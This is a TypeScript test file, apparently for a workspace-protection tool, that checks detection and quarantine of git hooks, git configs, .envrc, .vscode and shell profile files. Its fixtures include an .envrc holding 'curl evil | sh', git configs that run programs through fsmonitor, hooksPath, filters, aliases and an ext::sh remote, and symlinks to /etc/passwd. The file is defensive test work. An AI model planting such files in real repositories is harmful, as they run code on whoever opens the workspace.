import assert from "node:assert/strict";
import * as fs from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { isProtectedPath } from "./inside/protected-names.mjs";
import { findProtected, openExactly } from "./protected.ts";
import { isHarmlessGitConfig, quarantineNew } from "./quarantine.ts";

const made: string[] = [];
after(() => {
  for (const folder of made) fs.rmSync(folder, { recursive: true });
});

function workspace(files: readonly string[]): string {
  const root = fs.realpathSync(fs.mkdtempSync(join(tmpdir(), "vambrace-protected-")));
  for (const file of files) {
    fs.mkdirSync(join(root, file, ".."), { recursive: true });
    fs.writeFileSync(join(root, file), "x");
  }
  made.push(root);
  return root;
}

test("R-FS-2: protected files are found in nested repositories, submodules and bare ones", async () => {
  const root = workspace([
    ".git/config",
    ".git/hooks/pre-commit",
    ".git/modules/sub/config",
    ".git/refs/heads/config",
    ".git/worktrees/w/commondir",
    "a/b/.git/config",
    "a/b/.git/objects/config",
    "bare/HEAD",
    "bare/config",
    "bare/objects/x",
    "bare/refs/x",
    "c/.vscode/settings.json",
    ".bashrc",
    "node_modules/x/.envrc",
    "src/config",
    "src/hooks/readme",
  ]);
  const { found, gitFolders } = await findProtected(root);
  const names = (list: readonly { path: string }[]): string[] =>
    list.map(({ path }) => path.slice(root.length + 1)).sort();
  assert.deepEqual(names(found), [
    ".bashrc",
    ".git/config",
    ".git/hooks",
    ".git/modules/sub/config",
    ".git/worktrees/w/commondir",
    "a/b/.git/config",
    "bare/config",
    "c/.vscode",
  ]);
  assert.deepEqual(names(gitFolders), [".git", "a/b/.git"]);
});

test("R-FS-2: where a protected name is a link, what it names is protected too", async () => {
  const root = workspace(["dot/bashrc"]);
  fs.symlinkSync("dot/bashrc", join(root, ".bashrc"));
  fs.symlinkSync("/etc/passwd", join(root, ".profile"));
  const { found } = await findProtected(root);
  assert.deepEqual(found.map(({ path, kind }) => `${path.slice(root.length + 1)} ${kind}`).sort(), [
    ".bashrc link",
    ".profile link",
    "dot/bashrc file",
  ]);
});

test("R-FS-2: names are protected in any case and at any depth; others are not", () => {
  for (const path of [
    "/w/.envrc",
    "/w/a/.VSCode/x",
    "/w/.git",
    "/w/.git/hooks/x",
    "/w/.GIT/Config",
    "/w/x.code-workspace",
  ])
    assert.ok(isProtectedPath(path), path);
  for (const path of [
    "/w/env",
    "/w/.gitignore",
    "/w/.github/workflows/x",
    "/w/.git/description",
    "/w/config",
    "/w/hooks/x",
  ])
    assert.ok(!isProtectedPath(path), path);
});

test("R-FS-2: what is new and run without asking is moved away; what a fresh repository needs stays", async () => {
  const root = workspace([".bashrc"]);
  const before = await findProtected(root);
  const known = new Set(before.found.map(({ key }) => key));
  for (const [file, text] of [
    [".envrc", "curl evil | sh"],
    ["fresh/.git/config", "[core]\n\tbare = false\n\trepositoryformatversion = 0\n"],
    ["fresh/.git/hooks/pre-push.sample", "x"],
    ["evil/.git/config", "[core]\n\tfsmonitor = ./run\n"],
    ["evil/.git/hooks/pre-commit", "x"],
    ["sub/.git", "gitdir: ../elsewhere\n"],
    ["good/.git", "gitdir: ../fresh/.git/worktrees/good\n"],
  ] as const) {
    fs.mkdirSync(join(root, file, ".."), { recursive: true });
    fs.writeFileSync(join(root, file), text);
  }
  fs.symlinkSync("/etc", join(root, ".vscode"));
  const state = workspace([]);
  const lines = await quarantineNew([root], known, state);
  assert.equal(lines.length, 5, lines.join("\n"));
  const there = (file: string): boolean => fs.lstatSync(join(root, file), { throwIfNoEntry: false }) !== undefined;
  for (const gone of [".envrc", ".vscode", "evil/.git/config", "evil/.git/hooks", "sub/.git"])
    assert.ok(!there(gone), gone);
  for (const kept of [".bashrc", "fresh/.git/config", "fresh/.git/hooks", "good/.git"]) assert.ok(there(kept), kept);
  assert.equal(fs.readdirSync(join(state, "quarantine")).length, 5);
});

test("R-FS-2: a git configuration that names a program is not harmless", () => {
  const harmless =
    '[remote "origin"]\n\turl = https://example.org/a.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n';
  assert.ok(isHarmlessGitConfig(harmless));
  for (const text of [
    "[core]\n\thooksPath = x\n",
    '[filter "x"]\n\tclean = sh\n',
    "[alias]\n\tx = !sh\n",
    "[include]\n\tpath = x\n",
    '[remote "origin"]\n\turl = ext::sh -c x\n',
    "[core] fsmonitor = x\n",
    "[core]\n\tbare = false \\\n\tsshCommand = x\n",
    "[user]\n\tname = a ; b\n[core]\n\teditor=x\n",
  ])
    assert.ok(!isHarmlessGitConfig(text), text);
});

test("R-FS-2: a path through a link is not opened", () => {
  const root = workspace(["real/file"]);
  fs.symlinkSync("real", join(root, "link"));
  fs.closeSync(openExactly(join(root, "real/file")));
  assert.throws(() => openExactly(join(root, "link/file")), /through a link/);
});
